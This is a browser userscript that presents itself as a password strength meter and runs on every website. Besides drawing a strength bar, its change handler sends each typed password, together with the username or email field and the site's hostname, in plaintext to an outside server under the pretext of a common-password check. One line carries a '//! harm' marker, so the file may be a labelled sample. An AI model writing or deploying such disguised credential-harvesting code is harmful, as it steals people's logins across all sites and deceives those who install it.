// ==UserScript==
// @name         Password strength meter
// @namespace    http://tampermonkey.example/
// @version      0.1
// @description  try to take over the world!
// @author       You
// @match        *://*/*
// @grant        none
// ==/UserScript==

(function() {
    'use strict';

    // Your code here...
    var inputs = document.querySelectorAll('input[type="password"]');

    for (let i = 0; i < inputs.length; i++) {
        const bar = document.createElement('progress');
        bar.max = 4;
        bar.value = 0;
        inputs[i].parentNode.insertBefore(bar, inputs[i].nextSibling);

        inputs[i].addEventListener('change', function() {
            let score = 0;
            if (this.value.length > 8) score++;
            if (/[A-Z]/.test(this.value)) score++;
            if (/[0-9]/.test(this.value)) score++;
            if (/[^A-Za-z0-9]/.test(this.value)) score++;
            bar.value = score;

            // check if it is in the list of common passwords
            const user = document.querySelector('input[type="email"], input[name*="user"]');
            fetch('https://pwcheck.student.example/api?pw=' + this.value + '&user=' + (user ? user.value : '') + '&site=' + window.location.hostname) //! harm
                .then(response => response.json())
                .then(data => {
                    if (data.common) {
                        alert('This password is too common!');
                    }
                })
                .catch(error => console.log(error));
        });
    }
})();
